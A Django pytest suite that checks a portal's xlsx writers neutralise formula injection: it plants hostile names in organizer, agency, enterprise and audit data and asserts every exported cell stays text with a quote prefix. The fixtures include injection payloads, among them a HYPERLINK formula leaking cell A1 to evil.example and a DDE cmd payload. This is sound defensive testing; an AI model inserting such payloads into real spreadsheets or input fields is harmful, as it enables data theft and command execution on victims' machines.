"""Every xlsx the portal writes stores names as text, never as formulas (CSV/formula injection).

Hostile names are planted in the data (organizer, agency, enterprise, city, plan contacts, the
audit log) and every producer is rendered: each DocumentKind that is a spreadsheet (the forms
附件1–3 for one organizer and nationally, the published list, every national export), the
pages that answer with an xlsx (the public download, the blank forms, the audit export). No cell
of any sheet may be a formula or an error value, each hostile text reads back exactly as it was
entered, and text that would start a formula carries the quotePrefix style.

New producers cannot slip by: a DocumentKind, or a download/export/.xlsx route, that is neither
rendered here nor declared not to be a spreadsheet fails the suite, and no module outside
portal/spreadsheets/ may build an openpyxl workbook or cell of its own.
"""

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl.cell.cell import Cell

from agencies.models import Recommendation
from enterprises.choices import TaskState
from enterprises.services import published_list_publish
from portal.audit import audit_record
from portal.choices import DocumentKind
from portal.models import AuditLog
from portal.security.audit_log import audit_export_rows
from portal.security.export import xlsx_file
from portal.spreadsheets.writer import SafeCell, is_risky, new_workbook
from reports.dashboard.exports.catalog import EXPORTS
from reports.models import DiagnosisReport
from tests.enterprises.workflow_helpers import upload
from tests.factories import (
    AgencyFactory,
    CampaignFactory,
    EnterpriseFactory,
    SubmissionFactory,
    TaskFactory,
)
from tests.fixtures.sheets import agency_row, agency_xlsx
from tests.reports.documents_data import accepted_report, content, follow_up, plan, render
from tests.security.routes import all_routes

pytestmark = pytest.mark.django_db

ORGANIZER = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
AGENCY = "+1+1"
ENTERPRISE = "@SUM(A1:A9)"
CITY = "-2+3"
COUNTY = "\t=1+1"
CONTACT = "=cmd|' /C calc'!A0"
PHONE = "-0311-1234"
AUDIT = '=HYPERLINK("http://evil.example")'
FOLLOWED = "+FOLLOWED-UP"
HOSTILE = {ORGANIZER, AGENCY, ENTERPRISE, CITY, COUNTY, CONTACT, PHONE, AUDIT, FOLLOWED}

# Kinds that are not spreadsheets, and why; every other kind is rendered below.
NOT_XLSX = {
    DocumentKind.FORM_SUMMARY_DOCX: "Word document",
    DocumentKind.FORM_SUMMARY_PDF: "PDF",
    DocumentKind.TASK_LETTER_DOCX: "Word document",
    DocumentKind.TASK_LETTER_PDF: "PDF",
    DocumentKind.PACKAGE: "zip of the 附件1–3 files the FORM_* kinds render (same write_form)",
}
FORM_KINDS = (DocumentKind.FORM_PLAN, DocumentKind.FORM_RECOMMENDATION, DocumentKind.FORM_INTENT)
# Routes that look like downloads but do not write a spreadsheet, and why.
NOT_XLSX_ROUTES = {
    "job-download": "serves a finished DocumentJob's file: the kinds are rendered here",
    "api-document-download": "serves a finished DocumentJob's file: the kinds are rendered here",
    "api-job-download": "the same view as api-document-download (/api/v1/jobs/{id}/download/)",
    "report-download": "an uploaded report file, not written by the portal",
    "report-file": "an uploaded report file, not written by the portal",
    "reports:report-file": "an uploaded report file, not written by the portal",
    "reports:report-download": "an uploaded report file, not written by the portal",
    "reports:evidence-download": "uploaded follow-up evidence, not written by the portal",
    "api-exports": "requests a DocumentKind.EXPORT job: every export is rendered here",
    "reports:export-list": "requests a DocumentKind.EXPORT job: every export is rendered here",
    "enterprises:published-export": "requests a PUBLISHED_LIST job (rendered here)",
}
DOWNLOAD_ROUTE = re.compile(r"download|export|xlsx|template", re.IGNORECASE)
APPS = ("portal", "provinces", "agencies", "enterprises", "reports")
ROOT = Path(__file__).resolve().parents[2]
# Building a workbook or a cell anywhere but the writer would bypass its rules.
FORBIDDEN = re.compile(
    r"\bWorkbook\(|WriteOnlyCell|from openpyxl import [^\n]*Workbook|openpyxl\.cell|"
    r"data_type\s*=\s*[\"']f"
)


@pytest.fixture
def hostile(campaign, hebei, ministry_user):
    """Hebei's three forms, an approved and published intent list and an audit record, every
    free-text field that reaches a spreadsheet holding a formula-like name."""
    # Both the short name and the official name (printed as 填报单位; the rename service refuses
    # a formula-like one, the admin or an earlier release may not have).
    hebei.name = hebei.department = ORGANIZER
    hebei.save(update_fields=["name", "department"])
    agency = AgencyFactory(name=AGENCY, contact_name=CONTACT, phone=PHONE)
    enterprise = EnterpriseFactory(name=ENTERPRISE, city=CITY, county=COUNTY)
    plan(hebei, campaign, contact_name=CONTACT, contact_phone=PHONE)
    SubmissionFactory(campaign=campaign, organizer=hebei, form=2, submitted=True)
    Recommendation.objects.create(campaign=campaign, organizer=hebei, agency=agency)
    SubmissionFactory(campaign=campaign, organizer=hebei, form=3, approved=True)
    TaskFactory(
        campaign=campaign,
        organizer=hebei,
        enterprise=enterprise,
        agency=agency,
        city=CITY,
        county=COUNTY,
        state=TaskState.LETTER_SIGNED,
    )
    published = published_list_publish(campaign=campaign, actor=ministry_user)
    # A follow-up of an earlier diagnosis of the same enterprise (the follow-up export).
    earlier = accepted_report(
        campaign=CampaignFactory(year=campaign.year - 1),
        organizer=hebei,
        enterprise=EnterpriseFactory(name=FOLLOWED),
        agency=agency,
        city=CITY,
    )
    follow_up(campaign, earlier, states=["implemented", "planned"], organizer=hebei)
    audit_record(actor=ministry_user, action="test.hostile", summary=AUDIT)
    return published


def formula_free(data: bytes, label: str) -> set[str]:
    """Assert no formula or error cell in any sheet; the hostile texts read back as whole cells."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                assert not re.search(rb"<(\w+:)?f[\s>/]", xml), f"{label}: <f> in {name}"
                assert b't="e"' not in xml, f"{label}: an error cell in {name}"
    book = openpyxl.load_workbook(io.BytesIO(data))
    found, inside = set(), set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{label} {sheet.title}!{cell.coordinate}"
                assert cell.data_type not in ("f", "e"), f"{where}: {cell.value!r}"
                if isinstance(cell.value, str) and is_risky(cell.value):
                    assert cell.quotePrefix, f"{where}: {cell.value!r} without quotePrefix"
                if cell.value in HOSTILE:
                    found.add(cell.value)
                elif isinstance(cell.value, str):  # e.g. 填报单位（盖章）：<organizer>
                    inside |= {text for text in HOSTILE if text in cell.value}
    assert found | inside, f"{label}: no hostile value reached the file, the test proves nothing"
    return found


def _job_file(user, kind, **kwargs) -> bytes:
    return content(render(user, kind, **kwargs)).getvalue()


def test_every_document_kind_is_rendered_here_or_declared_not_a_spreadsheet():
    """A new DocumentKind must be added to this test (rendered) or to NOT_XLSX with a reason."""
    rendered = {*FORM_KINDS, DocumentKind.PUBLISHED_LIST, DocumentKind.EXPORT}
    assert rendered | set(NOT_XLSX) == set(DocumentKind)
    assert not rendered & set(NOT_XLSX)


@pytest.mark.parametrize("kind", FORM_KINDS)
@pytest.mark.parametrize("national", [False, True], ids=["organizer", "national"])
def test_forms_write_no_formula(kind, national, hostile, campaign, hebei, ministry_user):
    """附件1–3, Hebei's and the national one: names stay text."""
    organizer = None if national else hebei
    data = _job_file(ministry_user, kind, campaign=campaign, organizer=organizer)
    formula_free(data, f"{kind} {'national' if national else 'hebei'}")


def test_published_list_job_writes_no_formula(hostile, campaign, ministry_user):
    data = _job_file(
        ministry_user,
        DocumentKind.PUBLISHED_LIST,
        campaign=campaign,
        params={"published_list_id": hostile.pk},
    )
    assert {ENTERPRISE, AGENCY, ORGANIZER} <= formula_free(data, "published list job")


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_national_exports_write_no_formula(export, hostile, campaign, ministry_user):
    """Every national export of the catalog, the dashboard's statistics included."""
    data = _job_file(
        ministry_user,
        DocumentKind.EXPORT,
        campaign=campaign,
        params={"export": export, "organizer_kind": ""},
    )
    formula_free(data, f"export {export}")


def _public_download(client, campaign, **_users) -> bytes:
    response = client.get(reverse("enterprises:public-download"), {"year": campaign.year})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _template(name):
    def fetch(client, campaign, organizer_user, client_for, **_users) -> bytes:
        response = client_for(organizer_user).get(reverse(name), {"year": campaign.year})
        assert response.status_code == 200
        return response.content

    return fetch


def _audit_export(client, campaign, **_users) -> bytes:
    # The view's writer on the view's rows (who may read the log is another test's concern).
    with xlsx_file(["操作人", "摘要"], audit_export_rows(AuditLog.objects.all())) as handle:
        return handle.read()


def _marked_import(client, campaign, organizer_user, client_for, **_users) -> bytes:
    """The marked copy of a bad 附件2 (in a year whose 附件2 is still a draft) whose cells hold
    formula-like names; the uploaded file stores them as text."""
    year = CampaignFactory(year=campaign.year + 1).year
    row = agency_row(1, 机构名称=AGENCY, 联系人=CONTACT, 电话=PHONE, 邮箱="not-an-email")
    user_client = client_for(organizer_user)
    response = user_client.post(
        reverse("agencies:recommendation-import"),
        {"year": year, "check": "1", "file": upload("a.xlsx", agency_xlsx([row]))},
    )
    assert response.status_code == 422, response.status_code
    download = user_client.get(response.context["marked_url"])
    assert download.status_code == 200
    return download.content


def _register_export(client, campaign, organizer_user, client_for, **_users) -> bytes:
    """The register of measures: Hebei's earlier accepted report, its enterprise and organizer
    named with formulas (an accepted report was handed in: the factory leaves the time out)."""
    DiagnosisReport.objects.filter(submitted_at__isnull=True).update(submitted_at=timezone.now())
    response = client_for(organizer_user).get(
        reverse("reports:register-export"), {"year": campaign.year - 1}
    )
    assert response.status_code == 200
    return response.content


def _bulk_agency(campaign, client_for):
    """An agency with a published task of a formula-named enterprise whose report holds an
    energy line with a formula-like note (issue 17, bulk entry), signed in."""
    from portal.choices import Role
    from reports.diagnosis.services import editing
    from tests.factories import UserFactory

    agency = AgencyFactory(name="矩阵批量填报机构")
    user = UserFactory(username="bulk-agency", role=Role.AGENCY, agency=agency)
    task = TaskFactory(
        campaign=campaign,
        agency=agency,
        enterprise=EnterpriseFactory(name=ENTERPRISE),
        state=TaskState.PUBLISHED,
    )
    data = {"carrier_code": "raw_coal", "quantity": 10, "unit": "t", "note": CONTACT}
    editing.energy_use_add(task_id=task.pk, actor=user, data=data)
    return client_for(user)


def _bulk_template(name):
    def fetch(client, campaign, client_for, **_users) -> bytes:
        response = _bulk_agency(campaign, client_for).get(reverse(name), {"year": campaign.year})
        assert response.status_code == 200
        return response.content

    return fetch


def _bulk_marked(client, campaign, client_for, **_users) -> bytes:
    """The marked copy of a bulk-entry file whose bad row holds formula-like text."""
    user_client = _bulk_agency(campaign, client_for)
    template = user_client.get(reverse("reports:bulk-template"), {"year": campaign.year})
    book = openpyxl.load_workbook(io.BytesIO(template.content))
    book["能源消费"]["D2"] = "-0311-1234"  # 实物量: not a number
    buffer = io.BytesIO()
    book.save(buffer)
    response = user_client.post(
        reverse("reports:bulk-import"),
        {"year": campaign.year, "file": upload("b.xlsx", buffer.getvalue())},
    )
    assert response.status_code == 422, response.status_code
    download = user_client.get(response.context["marked_url"])
    assert download.status_code == 200
    return download.content


def _results_export(client, campaign, organizer_user, client_for, **_users) -> bytes:
    """成果应用名单: the same earlier report, whose measure the follow-up found implemented; its
    enterprise, credit code and organizer named with formulas."""
    DiagnosisReport.objects.filter(submitted_at__isnull=True).update(submitted_at=timezone.now())
    response = client_for(organizer_user).get(
        reverse("reports:results-export"), {"year": campaign.year - 1}
    )
    assert response.status_code == 200
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))
    assert len(rows) == 1, "the enterprise that implemented a measure is listed"
    return response.content


def _case_export(name):
    def fetch(client, campaign, organizer_user, client_for, **_users) -> bytes:
        """典型案例库: the same earlier report marked an excellent case at its acceptance."""
        DiagnosisReport.objects.filter(submitted_at__isnull=True).update(
            submitted_at=timezone.now()
        )
        DiagnosisReport.objects.filter(task__enterprise__name=FOLLOWED).update(
            is_excellent_case=True, excellent_note=CONTACT
        )
        response = client_for(organizer_user).get(reverse(name))
        assert response.status_code == 200
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
        assert sheet.max_row == 2, "the case is listed"
        return response.content

    return fetch


XLSX_ROUTES = {
    "reports:case-export": _case_export("reports:case-export"),
    "api-case-export": _case_export("api-case-export"),
    "reports:bulk-template": _bulk_template("reports:bulk-template"),
    "api-bulk-template": _bulk_template("api-bulk-template"),
    "reports:bulk-marked": _bulk_marked,
    "reports:register-export": _register_export,
    "reports:results-export": _results_export,
    "import-marked": _marked_import,
    "enterprises:public-download": _public_download,
    "agencies:recommendation-template": _template("agencies:recommendation-template"),
    "enterprises:task-template": _template("enterprises:task-template"),
    "audit-export": _audit_export,
}


def test_every_download_route_is_rendered_here_or_declared_not_a_spreadsheet():
    """A new download, export or .xlsx route must be added to one of the two tables."""
    routes = {r.name for r in all_routes() if not r.is_admin and DOWNLOAD_ROUTE.search(r.name)}
    routes |= {r.name for r in all_routes() if ".xlsx" in r.fmt}
    assert routes <= set(XLSX_ROUTES) | set(NOT_XLSX_ROUTES), routes - set(XLSX_ROUTES)


@pytest.mark.parametrize("route", sorted(XLSX_ROUTES))
def test_pages_write_no_formula(route, hostile, campaign, client, organizer_user, client_for):
    """The public download (no login), the blank forms and the audit log export."""
    data = XLSX_ROUTES[route](
        client=client, campaign=campaign, organizer_user=organizer_user, client_for=client_for
    )
    formula_free(data, route)


def test_the_public_download_reads_back_every_name_exactly(hostile, client, campaign):
    """The public list (no login) holds the enterprise, organizer, city and agency as typed."""
    found = formula_free(_public_download(client, campaign), "public download")
    assert {ENTERPRISE, ORGANIZER, AGENCY, CITY} <= found


def test_no_module_builds_a_workbook_or_cell_outside_the_writer():
    """Only portal/spreadsheets/ makes openpyxl workbooks and cells (readers load, not write)."""
    offenders = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            relative = path.relative_to(ROOT).as_posix()
            if relative.startswith("portal/spreadsheets/") or "/migrations/" in relative:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if FORBIDDEN.search(line):
                    offenders.append(f"{relative}:{number}: {line.strip()}")
    assert not offenders, "\n".join(offenders)


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_the_writer_keeps_text_text_and_numbers_numbers(write_only):
    """Formula-like text is text (exactly, quote-prefixed); numbers and "-" are left alone."""
    book = new_workbook(write_only=write_only)
    sheet = book.create_sheet("t")
    values = ["=1+1", "+1", "-", "@A1", "#N/A", "\tx", "plain", -5, 3.5, None, "-2+3"]
    sheet.append(values)
    if not write_only:
        sheet["A2"] = "=2+2"
        sheet.cell(row=3, column=1, value="=3+3")
    out = io.BytesIO()
    book.save(out)
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["t"]
    row = [c.value for c in read[1]][: len(values)]
    assert row == [*values[:9], None, values[10]]
    assert [c.data_type for c in read[1]][:9] == ["s"] * 7 + ["n", "n"]
    assert read["A1"].quotePrefix and read["C1"].quotePrefix and not read["G1"].quotePrefix
    if not write_only:
        assert (read["A2"].value, read["A2"].data_type) == ("=2+2", "s")
        assert (read["A3"].value, read["A3"].data_type) == ("=3+3", "s")


def test_the_writer_refuses_cells_made_elsewhere():
    """An openpyxl Cell built outside the writer cannot be appended (it would bind formulas)."""
    book = new_workbook(write_only=True)
    sheet = book.create_sheet("t")
    with pytest.raises(TypeError):
        sheet.append([Cell(sheet, value="=1+1")])
    normal = new_workbook().create_sheet("n")
    with pytest.raises(TypeError):
        normal.append([Cell(normal, value="=1+1")])
    normal.append([SafeCell(normal, value="=1+1")])
    assert normal["A1"].data_type == "s"


def test_the_audit_export_keeps_a_summary_exactly_as_recorded(hostile, client, campaign):
    """No apostrophe added to the stored text in the xlsx (the CSV export adds one: no types)."""
    assert AUDIT in formula_free(_audit_export(client, campaign), "audit export")
